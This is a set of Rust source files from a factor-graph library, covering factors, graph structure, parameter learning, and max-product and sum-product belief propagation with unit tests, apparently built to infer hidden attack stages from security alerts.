            for d in (0..cards.len()).rev() {
                assignment[d] += 1;
                if assignment[d] < cards[d] {
                    break;
                }
                assignment[d] = 0;
            }
        }
        Factor::new(vars, cards, table)
    }

    /// Normalize so entries sum to 1. No-op on an all-zero table.
    pub fn normalize(&mut self) {
        let sum: f64 = self.table.iter().sum();
        if sum > 0.0 {
            for v in &mut self.table {
                *v /= sum;
            }
        }
    }

    /// Normalized copy.
    pub fn normalized(&self) -> Factor {
        let mut f = self.clone();
        f.normalize();
        f
    }

    /// Index of the largest entry (ties broken toward lower index).
    pub fn argmax(&self) -> usize {
        let mut best = 0;
        for (i, &v) in self.table.iter().enumerate() {
            if v > self.table[best] {
                best = i;
            }
        }
        best
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn v(i: u32) -> VarId {
        VarId(i)
    }

    #[test]
    fn indexing_last_var_fastest() {
        let f = Factor::new(
            vec![v(0), v(1)],
            vec![2, 3],
            (0..6).map(|x| x as f64).collect(),
        );
        assert_eq!(f.value(&[0, 0]), 0.0);
        assert_eq!(f.value(&[0, 2]), 2.0);
        assert_eq!(f.value(&[1, 0]), 3.0);
        assert_eq!(f.value(&[1, 2]), 5.0);
        assert_eq!(f.assignment_of(4), vec![1, 1]);
        assert_eq!(f.index_of(&[1, 1]), 4);
    }

    #[test]
    fn from_fn_agrees_with_manual() {
        let f = Factor::from_fn(vec![v(0), v(1)], vec![2, 2], |a| (a[0] * 2 + a[1]) as f64);
        assert_eq!(f.table(), &[0.0, 1.0, 2.0, 3.0]);
    }

    #[test]
    fn product_disjoint_scopes() {
        let a = Factor::new(vec![v(0)], vec![2], vec![1.0, 2.0]);
        let b = Factor::new(vec![v(1)], vec![2], vec![3.0, 4.0]);
        let p = a.product(&b);
        assert_eq!(p.vars(), &[v(0), v(1)]);
        assert_eq!(p.value(&[0, 0]), 3.0);
        assert_eq!(p.value(&[1, 1]), 8.0);
    }

    #[test]
    fn product_shared_scope() {
        let a = Factor::new(vec![v(0), v(1)], vec![2, 2], vec![1.0, 2.0, 3.0, 4.0]);
        let b = Factor::new(vec![v(1)], vec![2], vec![10.0, 100.0]);
        let p = a.product(&b);
        assert_eq!(p.vars(), &[v(0), v(1)]);
        assert_eq!(p.value(&[0, 0]), 10.0);
        assert_eq!(p.value(&[0, 1]), 200.0);
        assert_eq!(p.value(&[1, 0]), 30.0);
        assert_eq!(p.value(&[1, 1]), 400.0);
    }

    #[test]
    fn marginalize_sum_and_max() {
        let f = Factor::new(vec![v(0), v(1)], vec![2, 2], vec![1.0, 2.0, 3.0, 4.0]);
        let m = f.marginalize(&[v(0)]);
        assert_eq!(m.table(), &[3.0, 7.0]);
        let mm = f.max_marginalize(&[v(1)]);
        assert_eq!(mm.table(), &[3.0, 4.0]);
    }

    #[test]
    fn marginalize_to_empty_scope_gives_partition() {
        let f = Factor::new(vec![v(0)], vec![3], vec![1.0, 2.0, 3.0]);
        let z = f.marginalize(&[]);
        assert_eq!(z.table(), &[6.0]);
    }

    #[test]
    fn reduce_conditions_on_evidence() {
        let f = Factor::new(
            vec![v(0), v(1)],
            vec![2, 3],
            (0..6).map(|x| x as f64).collect(),
        );
        let r = f.reduce(v(0), 1);
        assert_eq!(r.vars(), &[v(1)]);
        assert_eq!(r.table(), &[3.0, 4.0, 5.0]);
        let r2 = f.reduce(v(1), 2);
        assert_eq!(r2.vars(), &[v(0)]);
        assert_eq!(r2.table(), &[2.0, 5.0]);
        // Reduce to scalar.
        let s = r2.reduce(v(0), 0);
        assert!(s.vars().is_empty());
        assert_eq!(s.table(), &[2.0]);
    }

    #[test]
    fn normalize_and_argmax() {
        let mut f = Factor::new(vec![v(0)], vec![4], vec![1.0, 3.0, 4.0, 2.0]);
        f.normalize();
        let total: f64 = f.table().iter().sum();
        assert!((total - 1.0).abs() < 1e-12);
        assert_eq!(f.argmax(), 2);
    }

    #[test]
    fn invalid_tables_rejected() {
        assert!(std::panic::catch_unwind(|| Factor::new(vec![v(0)], vec![2], vec![1.0])).is_err());
        assert!(
            std::panic::catch_unwind(|| Factor::new(vec![v(0)], vec![2], vec![1.0, -1.0])).is_err()
        );
        assert!(std::panic::catch_unwind(|| Factor::new(
            vec![v(0), v(0)],
            vec![2, 2],
            vec![1.0; 4]
        ))
        .is_err());
    }
}
