//! The bipartite factor graph.

use serde::{Deserialize, Serialize};

use crate::factor::Factor;
use crate::variable::{VarId, Variable};

/// Identifier of a factor within a graph.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct FactorId(pub u32);

/// A factor graph: variables, factors, and the bipartite adjacency.
#[derive(Debug, Clone, Default, Serialize, Deserialize)]
pub struct FactorGraph {
    variables: Vec<Variable>,
    factors: Vec<Factor>,
    /// For each variable, the factors whose scope contains it.
    var_factors: Vec<Vec<FactorId>>,
}

impl FactorGraph {
    pub fn new() -> Self {
        Self::default()
    }

    /// Add a variable with the given cardinality; ids are dense.
    pub fn add_variable(&mut self, card: usize) -> VarId {
        let id = VarId(self.variables.len() as u32);
        self.variables.push(Variable::new(id, card));
        self.var_factors.push(Vec::new());
        id
    }

    /// Add a factor. Its scope must reference existing variables with
    /// matching cardinalities.
    ///
    /// # Panics
    /// Panics on scope/cardinality mismatch.
    pub fn add_factor(&mut self, factor: Factor) -> FactorId {
        for (i, v) in factor.vars().iter().enumerate() {
            let var = &self.variables[v.0 as usize];
            assert_eq!(
                var.card,
                factor.cards()[i],
                "factor cardinality mismatch on {v}"
            );
        }
        let id = FactorId(self.factors.len() as u32);
        for v in factor.vars() {
            self.var_factors[v.0 as usize].push(id);
        }
        self.factors.push(factor);
        id
    }

    pub fn num_variables(&self) -> usize {
        self.variables.len()
    }

    pub fn num_factors(&self) -> usize {
        self.factors.len()
    }

    pub fn variable(&self, id: VarId) -> &Variable {
        &self.variables[id.0 as usize]
    }

    pub fn variables(&self) -> &[Variable] {
        &self.variables
    }

    pub fn factor(&self, id: FactorId) -> &Factor {
        &self.factors[id.0 as usize]
    }

    /// Mutable access to a factor, for in-place table refresh via
    /// [`Factor::fill_from_fn`] when reusing a graph across observation
    /// sequences. The scope cannot change through this handle in a way
    /// that would desynchronize the adjacency (only table values are
    /// mutable through `Factor`'s API).
    pub fn factor_mut(&mut self, id: FactorId) -> &mut Factor {
        &mut self.factors[id.0 as usize]
    }

    pub fn factors(&self) -> &[Factor] {
        &self.factors
    }

    /// Factors adjacent to a variable.
    pub fn factors_of(&self, var: VarId) -> &[FactorId] {
        &self.var_factors[var.0 as usize]
    }

    /// Total number of (factor, variable) edges.
    pub fn num_edges(&self) -> usize {
        self.factors.iter().map(|f| f.vars().len()).sum()
    }

    /// Whether the graph is a forest (acyclic), in which case belief
    /// propagation is exact. Uses union-find over the bipartite edges.
    pub fn is_forest(&self) -> bool {
        // Nodes: variables [0, nv), factors [nv, nv+nf).
        let nv = self.variables.len();
        let mut parent: Vec<usize> = (0..nv + self.factors.len()).collect();
        fn find(parent: &mut [usize], mut x: usize) -> usize {
            while parent[x] != x {
                parent[x] = parent[parent[x]];
                x = parent[x];
            }
            x
        }
        for (fi, f) in self.factors.iter().enumerate() {
            for v in f.vars() {
                let a = find(&mut parent, v.0 as usize);
                let b = find(&mut parent, nv + fi);
                if a == b {
                    return false;
                }
                parent[a] = b;
            }
        }
        true
    }

    /// The unnormalized joint value of a full assignment (one value per
    /// variable, indexed by `VarId`).
    pub fn joint_value(&self, assignment: &[usize]) -> f64 {
        assert_eq!(assignment.len(), self.variables.len());
        let mut scratch = Vec::new();
        let mut product = 1.0;
        for f in &self.factors {
            scratch.clear();
            scratch.extend(f.vars().iter().map(|v| assignment[v.0 as usize]));
            product *= f.value(&scratch);
        }
        product
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn chain3() -> FactorGraph {
        let mut g = FactorGraph::new();
        let x0 = g.add_variable(2);
        let x1 = g.add_variable(2);
        let x2 = g.add_variable(2);
        g.add_factor(Factor::new(vec![x0], vec![2], vec![0.6, 0.4]));
        g.add_factor(Factor::new(
            vec![x0, x1],
            vec![2, 2],
            vec![0.9, 0.1, 0.2, 0.8],
        ));
        g.add_factor(Factor::new(
            vec![x1, x2],
            vec![2, 2],
            vec![0.7, 0.3, 0.3, 0.7],
        ));
        g
    }

    #[test]
    fn adjacency_built() {
        let g = chain3();
        assert_eq!(g.num_variables(), 3);
        assert_eq!(g.num_factors(), 3);
        assert_eq!(g.factors_of(VarId(0)).len(), 2);
        assert_eq!(g.factors_of(VarId(1)).len(), 2);
        assert_eq!(g.factors_of(VarId(2)).len(), 1);
        assert_eq!(g.num_edges(), 5);
    }

    #[test]
    fn chain_is_forest_loop_is_not() {
        let mut g = chain3();
        assert!(g.is_forest());
        // Close the loop x2 - x0.
        g.add_factor(Factor::uniform(vec![VarId(2), VarId(0)], vec![2, 2]));
        assert!(!g.is_forest());
    }

    #[test]
    fn joint_value_multiplies_factors() {
        let g = chain3();
        // P(0,0,0) ∝ 0.6 * 0.9 * 0.7
        assert!((g.joint_value(&[0, 0, 0]) - 0.6 * 0.9 * 0.7).abs() < 1e-12);
        assert!((g.joint_value(&[1, 1, 1]) - 0.4 * 0.8 * 0.7).abs() < 1e-12);
    }

    #[test]
    fn mismatched_cardinality_rejected() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(2);
        let bad = Factor::uniform(vec![x], vec![3]);
        assert!(std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            g.add_factor(bad);
        }))
        .is_err());
    }
}
