//! Maximum-likelihood parameter learning with Laplace smoothing.
//!
//! The paper's factor-graph detector is trained on labeled past incidents
//! (§II-A's annotated corpus): emission and transition probabilities are
//! relative frequencies over (stage, alert) and (stage, stage) pairs, with
//! add-k smoothing so alerts never seen in training do not zero out the
//! posterior — essential for "generalizing to unseen attacks".

use serde::{Deserialize, Serialize};

use crate::chain::ChainModel;

/// Accumulates counts from labeled `(state, observation)` sequences.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct ChainLearner {
    n_states: usize,
    n_obs: usize,
    smoothing: f64,
    prior_counts: Vec<f64>,
    trans_counts: Vec<f64>,
    emit_counts: Vec<f64>,
    sequences_seen: u64,
}

impl ChainLearner {
    /// Create a learner with add-`smoothing` Laplace regularization.
    pub fn new(n_states: usize, n_obs: usize, smoothing: f64) -> ChainLearner {
        assert!(n_states > 0 && n_obs > 0);
        assert!(smoothing >= 0.0);
        ChainLearner {
            n_states,
            n_obs,
            smoothing,
            prior_counts: vec![0.0; n_states],
            trans_counts: vec![0.0; n_states * n_states],
            emit_counts: vec![0.0; n_states * n_obs],
            sequences_seen: 0,
        }
    }

    /// Ingest one labeled sequence. `states` and `obs` must be parallel.
    pub fn observe(&mut self, states: &[usize], obs: &[usize]) {
        assert_eq!(
            states.len(),
            obs.len(),
            "states/observations length mismatch"
        );
        if states.is_empty() {
            return;
        }
        self.sequences_seen += 1;
        self.prior_counts[states[0]] += 1.0;
        for t in 0..states.len() {
            assert!(states[t] < self.n_states, "state out of range");
            assert!(obs[t] < self.n_obs, "observation out of range");
            self.emit_counts[states[t] * self.n_obs + obs[t]] += 1.0;
            if t + 1 < states.len() {
                self.trans_counts[states[t] * self.n_states + states[t + 1]] += 1.0;
            }
        }
    }

    /// Ingest with a weight (e.g. to overweight recent incidents).
    pub fn observe_weighted(&mut self, states: &[usize], obs: &[usize], weight: f64) {
        assert_eq!(states.len(), obs.len());
        if states.is_empty() || weight <= 0.0 {
            return;
        }
        self.sequences_seen += 1;
        self.prior_counts[states[0]] += weight;
        for t in 0..states.len() {
            self.emit_counts[states[t] * self.n_obs + obs[t]] += weight;
            if t + 1 < states.len() {
                self.trans_counts[states[t] * self.n_states + states[t + 1]] += weight;
            }
        }
    }

    /// Add weight to a single `(state, observation)` emission cell without
    /// touching the prior or transition counts. This is the hook for
    /// marginal emission evidence that carries no sequence context — e.g.
    /// cover-activity augmentation, where benign-shaped observations are
    /// known to occur *within* attack-stage windows at some rate but have
    /// no meaningful position in the labeled chain.
    pub fn observe_emission(&mut self, state: usize, obs: usize, weight: f64) {
        assert!(state < self.n_states, "state out of range");
        assert!(obs < self.n_obs, "observation out of range");
        if weight <= 0.0 {
            return;
        }
        self.emit_counts[state * self.n_obs + obs] += weight;
    }

    /// Total emission weight accumulated for a state (the normalizer its
    /// emission row will be divided by, pre-smoothing).
    pub fn emission_weight(&self, state: usize) -> f64 {
        self.emit_counts[state * self.n_obs..(state + 1) * self.n_obs]
            .iter()
            .sum()
    }

    pub fn sequences_seen(&self) -> u64 {
        self.sequences_seen
    }

    fn normalize_rows(counts: &[f64], rows: usize, cols: usize, smoothing: f64) -> Vec<f64> {
        let mut out = vec![0.0; rows * cols];
        for r in 0..rows {
            let row = &counts[r * cols..(r + 1) * cols];
            let total: f64 = row.iter().sum::<f64>() + smoothing * cols as f64;
            for c in 0..cols {
                out[r * cols + c] = if total > 0.0 {
                    (row[c] + smoothing) / total
                } else {
                    1.0 / cols as f64
                };
            }
        }
        out
    }

    /// Finalize into a [`ChainModel`].
    pub fn build(&self) -> ChainModel {
        let prior = Self::normalize_rows(&self.prior_counts, 1, self.n_states, self.smoothing);
        let trans = Self::normalize_rows(
            &self.trans_counts,
            self.n_states,
            self.n_states,
            self.smoothing,
        );
        let emit =
            Self::normalize_rows(&self.emit_counts, self.n_states, self.n_obs, self.smoothing);
        ChainModel::new(self.n_states, self.n_obs, prior, trans, emit)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frequencies_recovered_without_smoothing() {
        let mut l = ChainLearner::new(2, 2, 0.0);
        // State 0 always emits 0; state 1 always emits 1; transitions 0→1.
        l.observe(&[0, 1], &[0, 1]);
        l.observe(&[0, 1], &[0, 1]);
        let m = l.build();
        assert!((m.prior()[0] - 1.0).abs() < 1e-12);
        assert!((m.trans(0, 1) - 1.0).abs() < 1e-12);
        assert!((m.emit(0, 0) - 1.0).abs() < 1e-12);
        assert!((m.emit(1, 1) - 1.0).abs() < 1e-12);
    }

    #[test]
    fn smoothing_avoids_zeros() {
        let mut l = ChainLearner::new(2, 3, 1.0);
        l.observe(&[0], &[0]);
        let m = l.build();
        // Observation 2 never seen but has non-zero emission everywhere.
        assert!(m.emit(0, 2) > 0.0);
        assert!(m.emit(1, 2) > 0.0);
        // Rows remain distributions.
        let row: f64 = (0..3).map(|o| m.emit(0, o)).sum();
        assert!((row - 1.0).abs() < 1e-9);
    }

    #[test]
    fn unseen_rows_are_uniform() {
        let mut l = ChainLearner::new(3, 2, 0.5);
        l.observe(&[0, 0], &[0, 1]);
        let m = l.build();
        // State 2 never seen: uniform transition row.
        for to in 0..3 {
            assert!((m.trans(2, to) - 1.0 / 3.0).abs() < 1e-9);
        }
    }

    #[test]
    fn weighted_observations_shift_estimates() {
        let mut l = ChainLearner::new(1, 2, 0.0);
        l.observe_weighted(&[0], &[0], 1.0);
        l.observe_weighted(&[0], &[1], 3.0);
        let m = l.build();
        assert!((m.emit(0, 1) - 0.75).abs() < 1e-12);
        assert_eq!(l.sequences_seen(), 2);
    }

    #[test]
    fn learned_model_decodes_training_pattern() {
        // Train on the S1-like pattern: stage ramps 0→1→2, distinct
        // observation per stage.
        let mut l = ChainLearner::new(3, 3, 0.01);
        for _ in 0..50 {
            l.observe(&[0, 1, 2], &[0, 1, 2]);
        }
        let m = l.build();
        let (path, _) = m.viterbi(&[0, 1, 2]);
        assert_eq!(path, vec![0, 1, 2]);
        // Filtering after two observations already points at stage 1.
        let (alpha, _) = m.filter(&[0, 1]);
        assert!(alpha[1][1] > 0.9);
    }

    #[test]
    fn mismatched_lengths_rejected() {
        let mut l = ChainLearner::new(2, 2, 0.0);
        assert!(std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
            l.observe(&[0, 1], &[0]);
        }))
        .is_err());
    }
}
