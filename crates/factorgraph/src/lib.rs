//! # factorgraph — discrete probabilistic graphical models
//!
//! The inference substrate behind the paper's preemption models ([5], [6]):
//! "Factor-Graph-based models ... to infer hidden attack states and stop
//! attacks before the damage."
//!
//! - [`variable`], [`factor`] — discrete variables and tabular factors
//!   (product, marginalize, reduce, normalize).
//! - [`graph`] — the bipartite factor graph with forest detection.
//! - [`engine`] — the stride/arena message-passing core: flat message
//!   arenas, precomputed edge offsets and table strides, pairwise
//!   kernels, and the reusable zero-allocation [`BpWorkspace`].
//! - [`sumproduct`] — loopy/exact sum-product BP + brute-force validator
//!   (the seed implementation survives as `sumproduct::reference`).
//! - [`maxproduct`] — max-product MAP inference on the same engine.
//! - [`chain`] — exact O(n·S²) filtering / smoothing / Viterbi on the
//!   per-entity attack-stage chains the detector runs online.
//! - [`learn`] — MLE with Laplace smoothing from labeled incidents.
//!
//! ## Example: infer a hidden attack stage
//! ```
//! use factorgraph::chain::ChainModel;
//! use factorgraph::learn::ChainLearner;
//!
//! // Two stages (benign=0, malicious=1), three alert symbols.
//! let mut learner = ChainLearner::new(2, 3, 0.1);
//! learner.observe(&[0, 1, 1], &[0, 1, 2]); // a labeled past incident
//! learner.observe(&[0, 0, 0], &[0, 0, 0]); // benign activity
//! let model: ChainModel = learner.build();
//!
//! // Online filtering over a new alert sequence.
//! let (posterior, _ll) = model.filter(&[0, 1]);
//! assert!(posterior[1][1] > 0.5, "second alert points at the malicious stage");
//! ```

pub mod chain;
pub mod engine;
pub mod factor;
pub mod graph;
pub mod learn;
pub mod maxproduct;
pub mod sumproduct;
pub mod timing;
pub mod variable;

pub use chain::{ChainGraphBuffer, ChainModel};
pub use engine::{BpSchedule, BpStats, BpWorkspace};
pub use factor::Factor;
pub use graph::{FactorGraph, FactorId};
pub use learn::ChainLearner;
pub use sumproduct::{BpOptions, BpResult};
pub use timing::{GapLearner, GapModel, GAP_NONE};
pub use variable::{VarId, Variable};
