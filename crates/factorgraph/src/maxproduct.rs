//! Max-product belief propagation (MAP inference).
//!
//! Flooding-schedule max-product with per-message normalization; decoding
//! takes the argmax of the max-marginal beliefs. Exact on forests; on
//! chains it agrees with Viterbi (tested against
//! [`crate::chain::ChainModel::viterbi`]).

use crate::graph::FactorGraph;
use crate::sumproduct::BpOptions;
use crate::variable::VarId;

/// Result of a max-product run.
#[derive(Debug, Clone)]
pub struct MapResult {
    /// MAP assignment per variable (by `VarId` index).
    pub assignment: Vec<usize>,
    /// Max-marginal beliefs per variable.
    pub beliefs: Vec<Vec<f64>>,
    pub iterations: usize,
    pub converged: bool,
}

fn normalize(v: &mut [f64]) {
    let m: f64 = v.iter().fold(0.0f64, |acc, &x| acc.max(x));
    if m > 0.0 {
        for x in v.iter_mut() {
            *x /= m;
        }
    } else {
        for x in v.iter_mut() {
            *x = 1.0;
        }
    }
}

/// Run max-product BP.
pub fn run(graph: &FactorGraph, opts: &BpOptions) -> MapResult {
    let nf = graph.num_factors();
    // Messages per (factor, scope position), both directions.
    let mut var_to_fac: Vec<Vec<Vec<f64>>> = Vec::with_capacity(nf);
    let mut fac_to_var: Vec<Vec<Vec<f64>>> = Vec::with_capacity(nf);
    for f in graph.factors() {
        let slots: Vec<Vec<f64>> = f.cards().iter().map(|&c| vec![1.0; c]).collect();
        var_to_fac.push(slots.clone());
        fac_to_var.push(slots);
    }
    let mut incidences: Vec<Vec<(usize, usize)>> = vec![Vec::new(); graph.num_variables()];
    for (fi, f) in graph.factors().iter().enumerate() {
        for (pos, v) in f.vars().iter().enumerate() {
            incidences[v.0 as usize].push((fi, pos));
        }
    }

    let mut iterations = 0;
    let mut converged = false;
    let mut scratch: Vec<f64> = Vec::new();
    for iter in 0..opts.max_iters {
        iterations = iter + 1;
        let mut max_delta: f64 = 0.0;

        for (vi, inc) in incidences.iter().enumerate() {
            let card = graph.variable(VarId(vi as u32)).card;
            for &(fi, pos) in inc {
                scratch.clear();
                scratch.resize(card, 1.0);
                for &(ofi, opos) in inc {
                    if (ofi, opos) == (fi, pos) {
                        continue;
                    }
                    for (k, s) in scratch.iter_mut().enumerate() {
                        *s *= fac_to_var[ofi][opos][k];
                    }
                }
                normalize(&mut scratch);
                for k in 0..card {
                    let new = (1.0 - opts.damping) * scratch[k]
                        + opts.damping * var_to_fac[fi][pos][k];
                    max_delta = max_delta.max((new - var_to_fac[fi][pos][k]).abs());
                    var_to_fac[fi][pos][k] = new;
                }
            }
        }

        for (fi, f) in graph.factors().iter().enumerate() {
            let nscope = f.vars().len();
            for pos in 0..nscope {
                let card = f.cards()[pos];
                scratch.clear();
                scratch.resize(card, 0.0);
                let mut assignment = vec![0usize; nscope];
                for &val in f.table() {
                    let mut w = val;
                    for (opos, &a) in assignment.iter().enumerate() {
                        if opos != pos {
                            w *= var_to_fac[fi][opos][a];
                        }
                    }
                    let slot = assignment[pos];
                    if w > scratch[slot] {
                        scratch[slot] = w;
                    }
                    for d in (0..nscope).rev() {
                        assignment[d] += 1;
                        if assignment[d] < f.cards()[d] {
                            break;
                        }
                        assignment[d] = 0;
                    }
                }
                normalize(&mut scratch);
                for k in 0..card {
                    let new = (1.0 - opts.damping) * scratch[k]
                        + opts.damping * fac_to_var[fi][pos][k];
                    max_delta = max_delta.max((new - fac_to_var[fi][pos][k]).abs());
                    fac_to_var[fi][pos][k] = new;
                }
            }
        }

        if max_delta < opts.tolerance {
            converged = true;
            break;
        }
    }

    let mut beliefs = Vec::with_capacity(graph.num_variables());
    let mut assignment = Vec::with_capacity(graph.num_variables());
    for (vi, inc) in incidences.iter().enumerate() {
        let card = graph.variable(VarId(vi as u32)).card;
        let mut belief = vec![1.0; card];
        for &(fi, pos) in inc {
            for (k, b) in belief.iter_mut().enumerate() {
                *b *= fac_to_var[fi][pos][k];
            }
        }
        normalize(&mut belief);
        let mut best = 0;
        for k in 1..card {
            if belief[k] > belief[best] {
                best = k;
            }
        }
        assignment.push(best);
        beliefs.push(belief);
    }
    MapResult { assignment, beliefs, iterations, converged }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::ChainModel;
    use crate::factor::Factor;

    #[test]
    fn single_factor_map() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(4);
        g.add_factor(Factor::new(vec![x], vec![4], vec![0.1, 0.6, 0.2, 0.1]));
        let r = run(&g, &BpOptions::default());
        assert!(r.converged);
        assert_eq!(r.assignment, vec![1]);
    }

    #[test]
    fn chain_map_matches_viterbi() {
        let m = ChainModel::new(
            3,
            3,
            vec![0.5, 0.3, 0.2],
            vec![0.6, 0.3, 0.1, 0.2, 0.5, 0.3, 0.1, 0.2, 0.7],
            vec![0.7, 0.2, 0.1, 0.2, 0.6, 0.2, 0.1, 0.2, 0.7],
        );
        for obs in [vec![0, 1, 2], vec![2, 2, 2, 0], vec![0, 0, 1, 2, 2]] {
            let (vit, _) = m.viterbi(&obs);
            let g = m.to_factor_graph(&obs);
            let r = run(&g, &BpOptions::default());
            assert!(r.converged);
            assert_eq!(r.assignment, vit, "obs {obs:?}");
        }
    }

    #[test]
    fn map_differs_from_marginal_argmax_when_it_should() {
        // Classic example where MAP != per-variable argmax of marginals:
        // joint with a dominant off-diagonal mode.
        let mut g = FactorGraph::new();
        let x = g.add_variable(2);
        let y = g.add_variable(2);
        // P(x,y): (0,0)=0.35 (0,1)=0.05 (1,0)=0.3 (1,1)=0.3
        g.add_factor(Factor::new(vec![x, y], vec![2, 2], vec![0.35, 0.05, 0.3, 0.3]));
        let map = run(&g, &BpOptions::default());
        assert_eq!(map.assignment, vec![0, 0], "joint mode is (0,0)");
        let sp = crate::sumproduct::run(&g, &BpOptions::default());
        // Marginal over x: P(x=1) = 0.6 > P(x=0) = 0.4.
        assert_eq!(sp.argmax(crate::variable::VarId(0)), 1);
    }
}
