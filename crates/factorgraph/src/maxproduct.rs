//! Max-product belief propagation (MAP inference).
//!
//! Runs on the same stride/arena engine as [`crate::sumproduct`] with the
//! semiring switched to (max, ×): the flat message arenas, the pairwise
//! specialization, the reusable [`BpWorkspace`] and all three schedules
//! carry over; messages are normalized by their maximum (the seed
//! convention) and decoding takes the argmax of the max-marginal
//! beliefs. Exact on forests; on chains it agrees with Viterbi (tested
//! against [`crate::chain::ChainModel::viterbi`]).

use crate::graph::FactorGraph;
use crate::sumproduct::{BpOptions, BpStats, BpWorkspace};
use crate::variable::VarId;

/// Result of a max-product run.
#[derive(Debug, Clone)]
pub struct MapResult {
    /// MAP assignment per variable (by `VarId` index).
    pub assignment: Vec<usize>,
    /// Max-marginal beliefs per variable.
    pub beliefs: Vec<Vec<f64>>,
    pub iterations: usize,
    pub converged: bool,
}

/// Run max-product BP.
///
/// Convenience wrapper building a throwaway workspace; hot paths should
/// hold a [`BpWorkspace`] and call [`run_in`].
pub fn run(graph: &FactorGraph, opts: &BpOptions) -> MapResult {
    let mut ws = BpWorkspace::new(graph);
    let stats = run_in(graph, opts, &mut ws);
    let mut assignment = Vec::with_capacity(graph.num_variables());
    ws.map_assignment_into(&mut assignment);
    MapResult {
        assignment,
        beliefs: ws.marginals_vec(),
        iterations: stats.iterations,
        converged: stats.converged,
    }
}

/// Run max-product BP inside a reusable workspace; read the decode back
/// with [`BpWorkspace::map_assignment_into`] or
/// [`BpWorkspace::marginal`]. Allocation-free at steady state on the
/// serial schedule, like the sum-product path.
pub fn run_in(graph: &FactorGraph, opts: &BpOptions, ws: &mut BpWorkspace) -> BpStats {
    ws.run::<true>(graph, opts)
}

/// The MAP state of one variable from a finished workspace run.
pub fn map_state(ws: &BpWorkspace, var: VarId) -> usize {
    let m = ws.marginal(var);
    let mut best = 0;
    for (k, &x) in m.iter().enumerate() {
        if x > m[best] {
            best = k;
        }
    }
    best
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::chain::ChainModel;
    use crate::factor::Factor;
    use crate::sumproduct::BpSchedule;

    #[test]
    fn single_factor_map() {
        let mut g = FactorGraph::new();
        let x = g.add_variable(4);
        g.add_factor(Factor::new(vec![x], vec![4], vec![0.1, 0.6, 0.2, 0.1]));
        let r = run(&g, &BpOptions::default());
        assert!(r.converged);
        assert_eq!(r.assignment, vec![1]);
    }

    #[test]
    fn chain_map_matches_viterbi() {
        let m = ChainModel::new(
            3,
            3,
            vec![0.5, 0.3, 0.2],
            vec![0.6, 0.3, 0.1, 0.2, 0.5, 0.3, 0.1, 0.2, 0.7],
            vec![0.7, 0.2, 0.1, 0.2, 0.6, 0.2, 0.1, 0.2, 0.7],
        );
        for obs in [vec![0, 1, 2], vec![2, 2, 2, 0], vec![0, 0, 1, 2, 2]] {
            let (vit, _) = m.viterbi(&obs);
            let g = m.to_factor_graph(&obs);
            for schedule in [
                BpSchedule::Flood,
                BpSchedule::ParallelFlood,
                BpSchedule::Residual,
            ] {
                let r = run(
                    &g,
                    &BpOptions {
                        schedule,
                        ..Default::default()
                    },
                );
                assert!(r.converged, "{schedule:?}");
                assert_eq!(r.assignment, vit, "obs {obs:?} ({schedule:?})");
            }
        }
    }

    #[test]
    fn map_differs_from_marginal_argmax_when_it_should() {
        // Classic example where MAP != per-variable argmax of marginals:
        // joint with a dominant off-diagonal mode.
        let mut g = FactorGraph::new();
        let x = g.add_variable(2);
        let y = g.add_variable(2);
        // P(x,y): (0,0)=0.35 (0,1)=0.05 (1,0)=0.3 (1,1)=0.3
        g.add_factor(Factor::new(
            vec![x, y],
            vec![2, 2],
            vec![0.35, 0.05, 0.3, 0.3],
        ));
        let map = run(&g, &BpOptions::default());
        assert_eq!(map.assignment, vec![0, 0], "joint mode is (0,0)");
        let sp = crate::sumproduct::run(&g, &BpOptions::default());
        // Marginal over x: P(x=1) = 0.6 > P(x=0) = 0.4.
        assert_eq!(sp.argmax(crate::variable::VarId(0)), 1);
    }

    #[test]
    fn workspace_reuse_for_map() {
        let m = ChainModel::new(
            2,
            2,
            vec![0.7, 0.3],
            vec![0.8, 0.2, 0.3, 0.7],
            vec![0.9, 0.1, 0.2, 0.8],
        );
        let mut ws = BpWorkspace::default();
        let mut decode = Vec::new();
        for obs in [vec![0, 0, 1, 1], vec![1, 1, 0, 0], vec![0, 1, 0, 1]] {
            let g = m.to_factor_graph(&obs);
            run_in(&g, &BpOptions::default(), &mut ws);
            ws.map_assignment_into(&mut decode);
            let (vit, _) = m.viterbi(&obs);
            assert_eq!(decode, vit, "obs {obs:?}");
        }
    }
}
