//! Sum-product belief propagation.
//!
//! Flooding-schedule message passing on the bipartite factor graph, with
//! per-message normalization for numerical stability and optional damping
//! for loopy graphs. On forests (which [`crate::graph::FactorGraph::is_forest`]
//! detects) the marginals are exact after `diameter` iterations; on loopy
//! graphs this is the standard loopy-BP approximation the AttackTagger
//! models of the paper rely on.

use crate::factor::Factor;
use crate::graph::{FactorGraph, FactorId};
use crate::variable::VarId;

/// Options for a BP run.
#[derive(Debug, Clone)]
pub struct BpOptions {
    /// Maximum flooding iterations.
    pub max_iters: usize,
    /// Convergence threshold on the max absolute message change.
    pub tolerance: f64,
    /// Damping in `[0, 1)`: new = (1-d)*computed + d*old.
    pub damping: f64,
}

impl Default for BpOptions {
    fn default() -> Self {
        BpOptions { max_iters: 100, tolerance: 1e-9, damping: 0.0 }
    }
}

/// Result of a BP run.
#[derive(Debug, Clone)]
pub struct BpResult {
    /// Per-variable normalized marginals, indexed by `VarId`.
    pub marginals: Vec<Vec<f64>>,
    /// Number of iterations executed.
    pub iterations: usize,
    /// Whether the message updates converged below tolerance.
    pub converged: bool,
}

impl BpResult {
    /// Marginal distribution of one variable.
    pub fn marginal(&self, var: VarId) -> &[f64] {
        &self.marginals[var.0 as usize]
    }

    /// MAP estimate per variable from the marginals (max-marginal decoding).
    pub fn argmax(&self, var: VarId) -> usize {
        let m = self.marginal(var);
        let mut best = 0;
        for (i, &v) in m.iter().enumerate() {
            if v > m[best] {
                best = i;
            }
        }
        best
    }
}

/// Edge-indexed message storage: for each factor, one message slot per
/// scope position in each direction.
struct Messages {
